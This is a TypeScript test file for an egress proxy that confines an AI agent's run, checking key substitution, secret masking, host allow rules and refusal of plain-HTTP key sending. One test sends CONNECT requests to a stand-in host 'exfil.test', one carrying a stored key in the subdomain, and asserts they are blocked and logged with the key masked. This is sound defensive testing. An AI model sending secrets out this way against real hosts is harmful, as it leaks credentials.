import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { defaultProfile } from "#lib/agents/profiles.ts";
import { ask, connectText, namesOf, serving } from "#lib/egress/proxy-under-test.fixture.ts";
import { agentKeyContext } from "#lib/secrets/agent-key-context.ts";
import { createSeal } from "#lib/secrets/seal.ts";
import { temporaryFolder } from "#lib/workspace/test-repository.ts";
import { networkUnderTest, openEngine } from "./engine.fixture.ts";
import { type NetworkTurn, openRunNetwork } from "./run-network.ts";
import { RunSecrets } from "./run-secrets.ts";

const key = "sk-kept-7Gk2pXv9QmTf5hJ3wB4cR6yL1zNaUsE8";
const ofService = "sk-service-0a1b2c3d4e5f60718293a4b5c6d7";

/** A claimed run over a real store, and the arguments for opening its network. */
async function claimedTurn(t: Parameters<typeof openEngine>[0], environment: Record<string, string> = {}) {
  const dataDir = temporaryFolder(t);
  const { store, access, create } = await openEngine(t, {}, { dataDir });
  const port = await serving(t, "127.0.0.3", (request, response) => {
    response.end(JSON.stringify({ key: request.headers["x-api-key"] ?? null, path: request.url }));
  });
  await create("Look");
  const claimed = await store.queue.claim("test", 60_000);
  assert.ok(claimed !== null);
  const find = namesOf({ "models.test": () => ["127.0.0.3"] });
  const parts = {
    ...networkUnderTest(dataDir, { PATH: "/usr/bin", ...environment }),
    permitted: new Set([`models.test:${port}`]),
    find,
  };
  const use = { host: "api.test", header: "X-Api-Key", path: "/v1" };
  const profile = {
    ...defaultProfile("walled", "Walled"),
    passEnv: ["MODEL_API_KEY", "MODEL_AUTH_TOKEN", "MODEL_BASE_URL"],
    keys: [
      { ...use, variable: "MODEL_API_KEY", baseUrl: "MODEL_BASE_URL" },
      { ...use, variable: "MODEL_AUTH_TOKEN", baseUrl: "MODEL_BASE_URL" },
    ],
    hosts: ["login.models.test"],
  };
  const turn: NetworkTurn = { store, parts, claimed, profile, mcpServers: [], secrets: new RunSecrets() };
  const keep = async (value: string) => {
    const place = { variable: "MODEL_API_KEY", repositoryId: null };
    const seal = createSeal({ key: null, file: join(dataDir, "secret.key") });
    const sealed = seal.seal(value, agentKeyContext(access.organizationId, place));
    await store.agentKeys.put(access, { ...place, sealed });
  };
  return { turn, store, access, claimed, port, keep, folder: parts.folder, base: `http://models.test:${port}/api/` };
}

const post = (path: string, sentinel = "") =>
  `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: ${sentinel}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n`;

test("behind a wall no variable holds a key, and the proxy uses it at the address that the service's environment names", async (t) => {
  const { turn, port, folder } = await claimedTurn(t);
  const base = `http://models.test:${port}/api/`;
  const environment = { MODEL_API_KEY: ofService, MODEL_AUTH_TOKEN: "tok-0123456789abcdef", MODEL_BASE_URL: base };
  const parts = { ...turn.parts, environment: { ...turn.parts.environment, ...environment } };
  const network = await openRunNetwork({ ...turn, parts }, { isWalled: true });
  const seen = network.environmentOf({ PATH: "/usr/bin", ...environment });
  assert.ok(!Object.values(seen).some((value) => value.includes(ofService) || value.includes("tok-")));
  assert.match(seen.MODEL_API_KEY ?? "", /^errand-run-[\w-]{32}$/);
  assert.equal(seen.MODEL_BASE_URL, "http://127.0.0.1:3128/k/MODEL_API_KEY/api");
  assert.equal(seen.MODEL_AUTH_TOKEN, undefined);
  assert.deepEqual(
    [seen.HTTP_PROXY, seen.HTTPS_PROXY, seen.NODE_USE_ENV_PROXY, seen.PATH],
    ["http://127.0.0.1:3128", "http://127.0.0.1:3128", "1", "/usr/bin"],
  );
  const socket = network.wayOut?.socket ?? "";
  const answer = await ask(socket, post("/k/MODEL_API_KEY/api/messages", seen.MODEL_API_KEY));
  assert.equal(answer.status, 200);
  // The service received the key, and its echo is masked.
  assert.match(answer.body, new RegExp(`"key":"\\*{${ofService.length}}","path":"/api/messages"`));
  assert.equal(turn.secrets.mask.text(`a ${ofService} tok-0123456789abcdef`), "a [secret masked] [secret masked]");
  await network.close();
  assert.deepEqual(readdirSync(folder), []);
});

test("a kept key takes precedence over the service's own", async (t) => {
  const { turn, keep, base } = await claimedTurn(t);
  await keep(key);
  const environment = { ...turn.parts.environment, MODEL_API_KEY: ofService, MODEL_BASE_URL: base };
  const given = { ...turn, parts: { ...turn.parts, environment } };
  const walled = await openRunNetwork(given, { isWalled: true });
  const sentinel = walled.environmentOf(environment).MODEL_API_KEY;
  const answer = await ask(walled.wayOut?.socket ?? "", post("/k/MODEL_API_KEY/", sentinel));
  assert.match(answer.body, new RegExp(`"\\*{${key.length}}"`));
  await walled.close();
  const leashed = await openRunNetwork(given, { isWalled: false });
  assert.equal(leashed.wayOut, null);
  assert.equal(leashed.environmentOf(environment).MODEL_API_KEY, key);
  await leashed.close();
});

test("refused connections are kept with the run, counted, without its secrets", async (t) => {
  const { turn, store, access, claimed, keep } = await claimedTurn(t);
  await keep(key);
  const network = await openRunNetwork(turn, { isWalled: true });
  const socket = network.wayOut?.socket ?? "";
  const answer = await ask(socket, connectText("exfil.test:443"));
  assert.match(
    answer.body,
    /An admin can allow it for the organization, on the page of this run or with PATCH \/v1\/organizations\/1\/network\.\n$/,
  );
  await ask(socket, connectText("exfil.test:443"));
  await ask(socket, connectText(`${key.toLowerCase()}.exfil.test:443`));
  await network.close();
  const denials = (await store.networks.listDenials(access, claimed.run.id)) ?? [];
  assert.deepEqual(denials.map(({ host, rule, count }) => [host, rule, count]).sort(), [
    ["[secret masked].exfil.test:443", "host_not_allowed", 1],
    ["exfil.test:443", "host_not_allowed", 2],
  ]);
});

test("a run may reach the hosts of its rules, its agent, its repositories and its MCP servers", async (t) => {
  const { turn, store, access } = await claimedTurn(t);
  await store.networks.putRules(access, null, [{ host: "*.ruled.test", port: null }]);
  const names = { name: "a", fullName: "a", description: null, source: "git@code.test:a.git", defaultBranch: null };
  await store.repositories.add(access, { ...names, opensHost: true });
  await store.repositories.add(access, { ...names, source: "https://of-a-member.test/a" });
  const mcpServers = [
    { name: "tracker", url: "https://mcp.test:8443/x", headers: {} },
    // People who may start runs cannot open hosts to them.
    { name: "own", url: "https://of-the-run.test/x", headers: {}, isOfRun: true as const },
  ];
  const network = await openRunNetwork({ ...turn, mcpServers }, { isWalled: true });
  const status = async (target: string) => (await ask(network.wayOut?.socket ?? "", connectText(target))).status;
  // None of these names can be resolved here: 502 shows that the rules let it through.
  const allowed = ["a.ruled.test:443", "login.models.test:443", "code.test:443", "mcp.test:8443", "pypi.org:443"];
  for (const target of allowed) assert.equal(await status(target), 502, target);
  for (const target of [
    "ruled.test:443",
    "mcp.test:443",
    "code.test:22",
    "other.test:443",
    "of-a-member.test:443",
    "of-the-run.test:443",
  ]) {
    assert.equal(await status(target), 403, target);
  }
  await network.close();
});

test("an agent that analyzes a run reaches its own hosts only, whatever the rules and the mode", async (t) => {
  const { turn, store, access, port } = await claimedTurn(t);
  await store.networks.putRules(access, null, [{ host: "*.ruled.test", port: null }]);
  const targets = [
    "login.models.test:443",
    "a.ruled.test:443",
    "pypi.org:443",
    "other.test:443",
    `models.test:${port}`,
  ];
  const statuses = async (environment: Record<string, string>) => {
    const parts = { ...turn.parts, environment: { ...turn.parts.environment, ...environment } };
    const network = await openRunNetwork({ ...turn, parts, isAnalysis: true }, { isWalled: true });
    const socket = network.wayOut?.socket ?? "";
    const answers = await Promise.all(targets.map((target) => ask(socket, connectText(target))));
    await network.close();
    assert.match(answers[1]?.body ?? "", /An agent that analyzes a run reaches its own hosts only/);
    return answers.map(({ status }) => status);
  };
  await store.settings.change(access, { network: "open" });
  // 502: the rules let it through, and its name cannot be resolved here.
  assert.deepEqual(await statuses({}), [502, 403, 403, 403, 403]);
  const own = { MODEL_BASE_URL: `http://models.test:${port}/v1` };
  assert.deepEqual(await statuses(own), [502, 403, 403, 403, 200]);
});

test("an agent that analyzes a run reaches the servers of its own hosts that the owner permits in private networks", async (t) => {
  const { turn, port } = await claimedTurn(t);
  const served = ["models.test", "chat.corp.test", "other.test"].map((host) => `${host}:${port}`);
  const permitted = new Set([...served, "wiki.corp.test:443", "models.test:443", `plain.test:${port + 1}`]);
  const find = namesOf(
    Object.fromEntries([...permitted].map((pair) => [pair.replace(/:.*/, ""), () => ["127.0.0.3"]])),
  );
  const statuses = async (hosts: string[], environment: Record<string, string>) => {
    const environmentOfService = { ...turn.parts.environment, ...environment };
    const parts = { ...turn.parts, permitted, find, environment: environmentOfService };
    const given = { ...turn, parts, profile: { ...turn.profile, hosts }, isAnalysis: true };
    const network = await openRunNetwork(given, { isWalled: true });
    const socket = network.wayOut?.socket ?? "";
    const answers = await Promise.all(
      [...served, "wiki.corp.test:443"].map((target) => ask(socket, connectText(target))),
    );
    await network.close();
    return answers.map(({ status }) => status);
  };
  // 502: the rules let it through, and nothing listens there.
  assert.deepEqual(await statuses(["models.test", "*.corp.test"], {}), [200, 200, 403, 502]);
  assert.deepEqual(await statuses([], { MODEL_BASE_URL: `http://plain.test:${port + 1}/` }), [403, 403, 403, 403]);
  assert.deepEqual(await statuses([], { MODEL_BASE_URL: "https://models.test/" }), [403, 403, 403, 403]);
});

test("a key is not sent without TLS to a host that the owner does not permit", async (t) => {
  const { turn } = await claimedTurn(t);
  const environment = { MODEL_API_KEY: ofService, MODEL_BASE_URL: "http://models.test:1/v1" };
  await assert.rejects(
    openRunNetwork({ ...turn, parts: { ...turn.parts, environment } }, { isWalled: true }),
    /The key MODEL_API_KEY is not sent to http:\/\/models\.test:1/,
  );
});
